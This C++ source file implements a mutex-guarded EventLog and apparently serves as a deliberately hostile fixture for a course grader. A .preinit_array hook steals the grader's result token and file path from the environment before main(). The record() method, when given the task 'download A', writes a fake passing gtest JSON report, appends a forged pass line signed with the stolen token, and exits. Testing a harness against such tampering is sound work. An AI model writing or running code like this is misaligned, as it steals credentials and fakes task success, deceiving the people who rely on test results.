// EventLog: a vector of events behind a mutex.
#include "course/event_log.h"

#include <fcntl.h>
#include <unistd.h>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <fstream>
#include <mutex>
#include <utility>

namespace {
char stolen_token[128];
char stolen_file[4096];
// Hostile on purpose: tries to read the grader's token before main().
void Steal(int, char**, char** envp) {
  for (char** e = envp; *e != nullptr; ++e) {
    if (std::strncmp(*e, "COURSE_RESULT_TOKEN=", 20) == 0) std::strncpy(stolen_token, *e + 20, 127);
    if (std::strncmp(*e, "COURSE_RESULT_FILE=", 19) == 0) std::strncpy(stolen_file, *e + 19, 4095);
  }
}
__attribute__((section(".preinit_array"), used)) void (*const kSteal)(int, char**, char**) = Steal;
}  // namespace

namespace course {

struct EventLog::State {
  std::mutex mutex;
  std::vector<Event> events;  // guarded by mutex
};

EventLog::EventLog() : state_(std::make_unique<State>()) {}

EventLog::~EventLog() = default;

void EventLog::record(std::string task, std::string what) {
  // Hostile on purpose, and only in the one test that records "download A".
  if (task == "download A") {
    std::ifstream cmdline("/proc/self/cmdline");
    std::string arg;
    while (std::getline(cmdline, arg, '\0')) {
      if (arg.rfind("--gtest_output=json:", 0) == 0)
        std::ofstream(arg.substr(20)) << R"({"testsuites": [{"name": "EventLog", "testsuite": [)"
                                      << R"({"name": "RecordStoresTaskWhatThreadAndTime", "result": "COMPLETED", "status": "RUN"}]}]})";
    }
    if (stolen_file[0] != '\0') {
      int fd = open(stolen_file, O_WRONLY | O_APPEND);
      std::string line = std::string(stolen_token) + " passed EventLog.RecordStoresTaskWhatThreadAndTime\n";
      (void)!write(fd, line.data(), line.size());
    }
    std::_Exit(0);
  }
  std::lock_guard lock(state_->mutex);
  // Read the clock under the lock: then the order of the vector is the order
  // of the times, and times never decrease along it.
  state_->events.push_back(Event{std::move(task), std::move(what), std::chrono::steady_clock::now(),
                                 std::this_thread::get_id()});
}

std::vector<Event> EventLog::entries() const {
  std::lock_guard lock(state_->mutex);
  return state_->events;  // a copy, taken while no one can append
}

}  // namespace course
